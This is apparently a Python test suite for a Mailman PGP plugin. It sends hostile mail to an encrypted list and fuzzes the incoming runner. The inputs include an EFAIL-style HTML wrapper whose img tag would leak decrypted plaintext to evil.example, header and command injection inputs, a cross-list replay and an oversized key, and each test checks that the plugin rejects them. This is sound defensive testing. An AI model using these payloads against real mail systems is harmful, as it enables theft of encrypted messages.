"""Mail an attacker can send to a PGP list, and bounded fuzzing of the
incoming path: the runner lives on, every message is accounted for, and no
plaintext reaches anyone without a confirmed key."""


from hypothesis import HealthCheck, given, settings, strategies as st
from mailman.app.lifecycle import create_list
from mailman.config import config
from mailman.database.transaction import transaction
from mailman.interfaces.requests import IListRequests
from mailman.testing.helpers import get_queue_messages, make_testable_runner

from mailman_pgp.keystore import key_store
from mailman_pgp.runners.incoming import PGPIncomingRunner
from mailman_pgp.testing.conversation import (
    enqueue, outbox, results_text, send_command)
from mailman_pgp.testing.members import add_pgp_member
from tests.runners.test_incoming import MARKER, PGPListTestCase


def accounted(mlist) -> dict:
    """Where the last posts went: accepted, held, bounced, shunted."""
    return dict(
        accepted=len(get_queue_messages('pipeline')),
        bounced=len(get_queue_messages('virgin')),
        shunted=len(get_queue_messages('shunt')),
        held=len(list(IListRequests(mlist).held_requests)),
        left=len(config.switchboards['in'].files))


class TestHostileCorpus(PGPListTestCase):
    def test_mixed_encrypted_and_clear_parts(self):
        # EFAIL: a clear part wrapped around an encrypted one.
        armored = self.anne.gpg(
            '--armor', '--sign', '--encrypt', '--recipient',
            self.list_key.fingerprint, input=MARKER).stdout.decode()
        raw = ('From: anne@example.com\nTo: ant@example.com\n'
               'Subject: mixed\nMessage-ID: <mixed@example.com>\n'
               'MIME-Version: 1.0\nContent-Type: multipart/mixed; '
               'boundary="B"\n\n--B\nContent-Type: text/html\n\n'
               '<img src="http://evil.example/?\n--B\n'
               'Content-Type: text/plain\n\n' + armored + '\n--B\n'
               'Content-Type: text/html\n\n">\n--B--\n')
        self.post(raw.encode())
        bounce = self.assertRejected('Only part of the message is encrypted')
        self.assertNotIn('evil.example/?' + MARKER, bounce.as_string())

    def test_alternatives_that_disagree(self):
        # Two alternatives, only one of them encrypted: not encrypted as a
        # whole, so not decrypted and spliced.
        armored = self.anne.gpg(
            '--armor', '--encrypt', '--recipient',
            self.list_key.fingerprint, input=MARKER).stdout.decode()
        raw = ('From: anne@example.com\nTo: ant@example.com\n'
               'Subject: alt\nMessage-ID: <alt@example.com>\n'
               'MIME-Version: 1.0\nContent-Type: multipart/alternative; '
               'boundary="B"\n\n--B\nContent-Type: text/plain\n\n'
               + armored + '\n--B\nContent-Type: text/html\n\n'
               '<p>something else entirely</p>\n--B--\n')
        self.post(raw.encode())
        self.assertRejected()
        get_queue_messages('pipeline', expected_count=0)

    def test_header_with_a_stray_line_break(self):
        # A vertical tab in a header (found by the fuzzing below): folding
        # turns it into a line break, Python 3.13 then refuses to write the
        # header out (header injection), and the runner crashed and shunted
        # the post.
        raw = bytearray(self.encrypted())
        raw[213] = 0x0b
        self.post(bytes(raw))
        where = accounted(self.mlist)
        self.assertEqual((where['shunted'], where['left']), (0, 0))
        self.assertEqual(where['accepted'] + where['bounced']
                         + where['held'], 1)

    def test_post_accepted_on_another_list_replayed_here(self):
        # A member of another list re-wraps Anne's signed post from there
        # (RFC 3156 sign-then-encrypt) for this list, as if from her.
        from email.policy import SMTP
        with transaction():
            other = create_list('bee@example.com', style_name='pgp-default')
            other.send_welcome_message = False
            add_pgp_member(other, self.anne)
        other_key = key_store().list_key(other.list_id)
        signed = self.anne._signed_entity(MARKER).as_bytes(policy=SMTP)

        def wrapped(key, address):
            self.anne.import_key(key.public_armor())
            armored = self.anne.gpg('--armor', '--encrypt', '--recipient',
                                    key.fingerprint, input=signed).stdout
            return self.anne.wrap_encrypted(armored.decode(), address, 'Hi')
        raw = wrapped(other_key, 'bee@example.com')
        enqueue(other, raw, to_list=True)
        make_testable_runner(PGPIncomingRunner, 'in').run()
        get_queue_messages('pipeline', expected_count=1)
        self.post(wrapped(self.list_key, 'ant@example.com'))
        self.assertRejected('posted before (a replay)')

    def test_command_with_injected_lines(self):
        send_command(self.mlist, self.anne.plain_mail(
            'ant-request@example.com', 'key set abc\tkey revoke', ''))
        text = results_text(outbox(), self.anne.email)
        self.assertIn('Extraneous arguments', text)

    def test_key_with_too_many_uids(self):
        from mailman.interfaces.subscriptions import ISubscriptionManager
        from mailman.interfaces.usermanager import IUserManager
        from zope.component import getUtility
        from mailman_pgp.testing.conversation import pick, token_of
        from mailman_pgp.testing.gpg import Subscriber
        mallory = Subscriber('mallory@example.com')
        self.addCleanup(mallory.close)
        for number in range(150):
            mallory.gpg('--quick-add-uid', mallory.fingerprint,
                        'U{0} <u{0}@example.com>'.format(number))
        with transaction():
            address = getUtility(IUserManager).create_address(mallory.email)
            ISubscriptionManager(self.mlist).register(
                address, pre_verified=True, pre_confirmed=True)
        token = token_of(pick(outbox(), to=mallory.email, subject='key set'))
        send_command(self.mlist, mallory.plain_mail(
            'ant-request@example.com', 'Re: key set ' + token,
            mallory.public_key()))
        text = results_text(outbox(), mallory.email)
        self.assertIn('user IDs', text)
        self.assertIsNone(key_store().address_key(mallory.email))


class TestFuzzIncoming(PGPListTestCase):
    @settings(max_examples=25, deadline=None, derandomize=True,
              suppress_health_check=list(HealthCheck))
    @given(data=st.data())
    def test_mutated_posts(self, data):
        if not hasattr(self, '_seed'):
            type(self)._seed = self.encrypted()
        raw = bytearray(self._seed)
        for _ in range(data.draw(st.integers(1, 6))):
            kind = data.draw(st.sampled_from(['flip', 'cut', 'dup']))
            where = data.draw(st.integers(0, len(raw) - 1))
            if kind == 'flip':
                raw[where] = data.draw(st.integers(0, 255))
            elif kind == 'cut':
                del raw[where:where + data.draw(st.integers(1, 200))]
            else:
                raw[where:where] = raw[where:where + 64]
            if not raw:
                raw = bytearray(b'x')
        try:
            enqueue(self.mlist, raw, to_list=True)
        except Exception:                   # noqa: BLE001 (LMTP would refuse)
            return
        make_testable_runner(PGPIncomingRunner, 'in').run()
        after = accounted(self.mlist)
        # Processed (accepted, held, bounced, or discarded and logged), and
        # never shunted by a crash of the runner.
        self.assertEqual(after['left'], 0)
        self.assertEqual(after['shunted'], 0, bytes(raw)[:300])
